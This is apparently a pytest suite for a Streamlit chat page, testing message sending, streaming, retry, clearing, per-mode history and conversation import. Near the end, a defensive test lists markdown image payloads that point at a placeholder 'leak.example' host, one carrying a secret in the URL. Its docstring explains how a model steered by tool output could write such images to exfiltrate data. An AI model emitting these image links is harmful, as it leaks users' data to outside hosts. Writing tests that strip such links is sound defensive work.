"""The Chat page through Streamlit's AppTest: send, streamed reply, clear, retry, per-mode history, sliders."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

ROOT = Path(__file__).resolve().parent.parent


def _app(page: str) -> AppTest:
    return AppTest.from_file(str(ROOT / "pages" / f"{page}.py"), default_timeout=60)


@pytest.fixture
def chat(tiny_model_dir, monkeypatch):
    monkeypatch.setenv("MODEL_PATH", str(tiny_model_dir))
    at = _app("chat")
    at.run()
    assert not at.exception, at.exception
    at.number_input(key="chat_max_new").set_value(8)
    at.slider(key="chat_temperature").set_value(0.0)
    return at.run()


def _history(at, mode="chat"):
    return at.session_state[f"{mode}_history"]


def test_sidebar_shows_model_facts(chat):
    caption = " ".join(c.value for c in chat.sidebar.caption)
    assert "tiny-random" in caption and "cpu" in caption and "context 512" in caption and "chatglm3" in caption


def test_send_streams_a_reply_into_the_history(chat):
    chat.chat_input[0].set_value("hello there").run()
    assert not chat.exception
    roles = [m.role for m in _history(chat)]
    assert roles == ["system", "user", "assistant"]
    assert _history(chat)[1].content == "hello there"
    assert [m.name for m in chat.chat_message][:2] == ["user", "assistant"]


def _user_bubbles(at) -> list[tuple[list[str], list[str]]]:
    """(plain texts, markdown sources) of each user message on the page."""
    return [([t.value for t in m.text], [md.value for md in m.markdown]) for m in at.chat_message if m.name == "user"]


def test_user_messages_are_shown_as_typed_not_as_markdown(chat):
    typed = "is 9**9**9 big? <b>x</b> _y_ :red[z] $a$ # not a title"
    chat.chat_input[0].set_value(typed).run()
    assert not chat.exception
    assert _user_bubbles(chat) == [([typed], [])]  # the run that sends it
    chat.run()
    assert _user_bubbles(chat) == [([typed], [])]  # drawn again from the history


def test_starter_prompts_show_only_while_the_conversation_is_empty(chat):
    def starters(at):
        return [b.label for b in at.button if (b.key or "").startswith("chat_starter_")]

    assert len(starters(chat)) == 3
    chat.chat_input[0].set_value("hello").run()
    assert not starters(chat)  # gone in the very run that starts the conversation
    chat.run()
    assert not starters(chat)
    chat.button(key="chat_clear").click().run()
    assert len(starters(chat)) == 3  # empty again
    first = starters(chat)[0]
    chat.button(key="chat_starter_0").click().run()  # a clicked starter is sent like a typed message
    assert not chat.exception and not starters(chat)
    assert chat.session_state["chat_history"][1].content == first


def test_empty_prompt_is_ignored(chat):
    chat.chat_input[0].set_value("   ").run()
    assert [m.role for m in _history(chat)] == ["system"]


def test_slider_move_keeps_history(chat):
    chat.chat_input[0].set_value("one").run()
    before = list(_history(chat))
    chat.slider(key="chat_top_p").set_value(0.5).run()
    assert _history(chat) == before


def test_clear_empties_the_history_but_keeps_the_system_prompt(chat):
    chat.chat_input[0].set_value("one").run()
    chat.button(key="chat_clear").click().run()
    assert [m.role for m in _history(chat)] == ["system"]


def test_retry_regenerates_the_last_answer(chat):
    chat.chat_input[0].set_value("one").run()
    chat.slider(key="chat_temperature").set_value(1.5).run()
    chat.number_input(key="chat_seed").set_value(3).run()
    chat.button(key="chat_retry").click().run()
    msgs = _history(chat)
    assert [m.role for m in msgs] == ["system", "user", "assistant"]  # replaced, not appended


def test_histories_are_per_mode(chat):
    from composite.messages import Message

    tool_history = [Message("system", "tool system"), Message("user", "weather in Oslo?")]
    chat.session_state["tool_history"] = tool_history
    chat.chat_input[0].set_value("only in chat").run()
    assert [m.content for m in _history(chat)[1:2]] == ["only in chat"]
    assert chat.session_state["tool_history"] == tool_history  # the other mode's history is untouched


def test_edited_system_prompt_is_used(chat):
    chat.text_area(key="chat_system").set_value("You are a pirate.").run()
    assert _history(chat)[0].content == "You are a pirate."


def test_bad_model_path_shows_a_clear_error_and_the_app_stays_up(tmp_path, monkeypatch):
    monkeypatch.setenv("MODEL_PATH", str(tmp_path / "missing"))
    at = _app("chat").run()
    assert not at.exception
    assert any("does not exist" in e.value for e in at.error)
    at.chat_input[0].set_value("hi").run()
    assert not at.exception and any("No model is loaded" in w.value for w in at.warning)


def test_import_rejects_bad_json_clearly():
    from composite.errors import CompositeError
    from pages._shared import import_conversation

    with pytest.raises(CompositeError, match="not a JSON file"):
        import_conversation(b"{nope")
    with pytest.raises(CompositeError, match="role"):
        import_conversation(json.dumps([{"content": "x"}]).encode())
    msgs = import_conversation(json.dumps([{"role": "user", "content": "hi"}]).encode())
    assert msgs[0].content == "hi"


# A stop mid-stream (Streamlit's own stop request, the real model) is tested in test_catch_page.py.


@pytest.mark.parametrize("text", [
    "Here: ![chart](https://leak.example/p.png?d=secret) done",
    "![a][ref] and more\n\n[ref]: https://leak.example/r.png",
    "nested [![b](https://leak.example/n.png)](https://x.example)",
    "a line\n![c](//leak.example/proto-relative.png)",
])
def test_the_models_markdown_makes_no_image(text):
    """A model led by a tool's or the kernel's output to write an image would make the user's browser fetch any
    address as the answer renders: checked with a CommonMark parser (HTML is off in st.markdown)."""
    from markdown_it import MarkdownIt

    from pages._shared import no_images

    rendered = MarkdownIt("commonmark").render(no_images(text))
    assert "<img" not in rendered, rendered
    assert "leak.example" in rendered  # the text stays readable


def test_no_images_leaves_code_as_written():
    from pages._shared import no_images

    text = "Run `print('![x](y)')` or:\n```python\nprint(\"![z](q)\")\n```\n~~~\n![t](u)\n~~~"
    assert no_images(text) == text
